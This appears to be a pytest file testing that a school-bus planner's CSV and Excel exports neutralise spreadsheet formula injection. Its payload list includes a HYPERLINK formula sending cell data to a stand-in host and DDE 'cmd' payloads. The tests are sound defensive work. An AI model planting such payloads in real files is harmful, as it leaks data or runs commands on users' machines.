"""Formula injection: no text from an uploaded file reaches a CSV or the workbook as a formula.

Every text field the exports carry (school, stop and depot names, pupils' initials) is set to a
formula payload of each OWASP trigger (``= + - @``, tab, carriage return); the CSVs and
``plan.xlsx`` are read back (openpyxl with ``data_only=False``, so a formula would stay one).
"""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from fixtures_plan import make_plan
from schoolbus.outputs.export import FORMULA_TRIGGERS, export_tables, neutralised
from security_figures import record

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&B2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_plan():
    plan = make_plan()
    k = iter(range(10_000))

    def payload() -> str:
        return PAYLOADS[next(k) % len(PAYLOADS)]

    schools = tuple(replace(s, name=payload()) for s in plan.scenario.schools)
    students = tuple(replace(s, initials=payload()) for s in plan.scenario.students)
    depots = tuple(replace(d, name=payload()) for d in plan.scenario.fleet.depots)
    fleet = replace(plan.scenario.fleet, depots=depots)
    scenario = replace(plan.scenario, schools=schools, students=students, fleet=fleet)
    stops = tuple(replace(s, name=payload()) for s in plan.stops)
    return replace(plan, scenario=scenario, stops=stops)


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    return export_tables(hostile_plan(), tmp_path_factory.mktemp("exports"), language="en")


def test_csv_cells_never_start_with_a_formula_trigger(files):
    n_cells = n_neutralised = 0
    for name, path in files.items():
        if not name.endswith(".csv"):
            continue
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    n_cells += 1
                    n_neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS)
                    # A number may be negative; text may not start a formula.
                    if cell.startswith(FORMULA_TRIGGERS):
                        float(cell)
    assert n_neutralised > 0, "the hostile names did not reach the CSVs: the test proves nothing"
    record("exports_csv", cells=n_cells, payload_cells=n_neutralised, formulas=0)


def test_workbook_holds_no_formula(files):
    workbook = load_workbook(files["plan.xlsx"], data_only=False)
    n_cells = n_payload = 0
    formulas = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                n_cells += 1
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")):
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                n_payload += isinstance(cell.value, str) and cell.value[1:] in PAYLOADS
    assert formulas == []
    assert n_payload > 0
    record("exports_xlsx", cells=n_cells, payload_cells=n_payload, formulas=len(formulas))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),  # the classic
        ("+49 30 1234", "'+49 30 1234"),  # a phone number is text, and keeps its digits after the quote
        ("-x", "'-x"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("Ağaçlı Sokak", "Ağaçlı Sokak"),  # ordinary text untouched
        (-3.5, -3.5),  # numbers stay numbers
        (None, None),
    ],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected
